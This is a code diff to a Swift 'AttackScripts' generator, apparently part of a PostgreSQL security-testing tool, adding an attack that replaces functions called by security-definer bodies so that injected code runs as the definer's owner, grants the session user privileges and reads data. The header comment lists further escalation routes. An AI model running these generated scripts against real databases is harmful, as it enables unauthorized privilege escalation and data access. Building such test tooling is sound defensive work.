@@ -10,7 +10,8 @@ import Foundation
 /// unqualified name a definer function, definer trigger or aggregate support function reads
 /// (a temporary view, or a view in a schema it can create in, put first in its search_path)
 /// so that the definer runs its code; pg_statistic; the server-file functions and COPY FROM
-/// PROGRAM; firing rewrite rules whose actions return rows; creating a trigger on a classified
+/// PROGRAM; replacing a function a definer's SQL-standard body calls, then calling the definer;
+/// firing rewrite rules whose actions return rows; creating a trigger on a classified
 /// table and replacing a trigger function, then having another role write; logical decoding.
 struct AttackScripts {
     let scenario: AttackScenario
@@ -115,13 +116,13 @@ struct AttackScripts {
 
     /// The code a redirected definer runs as its owner: grants the session user everything the
     /// owner can grant, then reads (raising what it finds).
-    private func evilBody() -> String {
+    private func evilBody(returning: String = "RETURN NEXT 1;") -> String {
         """
         DECLARE r text; v text; changed boolean := false;
         BEGIN
           \(grantEverything(to: "session_user"))
           \(readStatements(label: "'definer ' || current_user"))
-          RETURN NEXT 1;
+          \(returning)
         END
         """
     }
@@ -174,9 +175,37 @@ struct AttackScripts {
         }.joined(separator: "\n")
     }
 
-    /// The transactional attack: escalate, redirect definers, read, fire rules; rolled back.
+    /// Replacing the functions definer bodies call, as every role it may become, then calling
+    /// the definers as every role it may become: the replacement runs as the definer's owner.
+    var replacingCallees: String {
+        guard !scenario.replaceableCallees.isEmpty else { return "" }
+        let attempts = scenario.replaceableCallees.map { target in
+            """
+            BEGIN
+              EXECUTE format('SET ROLE %I', a);
+              EXECUTE $f$CREATE OR REPLACE FUNCTION \(target.callee) RETURNS int LANGUAGE plpgsql AS $ev$ \(evilBody(returning: "RETURN 1;")) $ev$$f$;
+              FOR b IN SELECT unnest(ARRAY[session_user::text] || \(roleArray)) LOOP
+                BEGIN EXECUTE format('SET ROLE %I', b); EXECUTE \(Self.literal(target.definerCall)); EXCEPTION WHEN others THEN NULL; END;
+              END LOOP;
+              RESET ROLE;
+            EXCEPTION WHEN others THEN NULL; END;
+            """
+        }
+        return """
+            DO $callee$
+            DECLARE a text; b text;
+            BEGIN
+              FOR a IN SELECT unnest(ARRAY[session_user::text] || \(roleArray)) LOOP
+                \(attempts.joined(separator: "\n"))
+              END LOOP;
+              RESET ROLE;
+            END $callee$;
+            """
+    }
+
+    /// The transactional attack: escalate, redirect definers, replace callees, read, fire rules; rolled back.
     var transactional: String {
-        "BEGIN;\n\(escalation)\n\(shadowing)\n\(escalation)\n\(reading)\n\(firingRules)\nROLLBACK;\n"
+        "BEGIN;\n\(escalation)\n\(shadowing)\n\(replacingCallees)\n\(escalation)\n\(reading)\n\(firingRules)\nROLLBACK;\n"
     }
 
     /// The attack that needs another role to write: escalate (committed), plant triggers on the
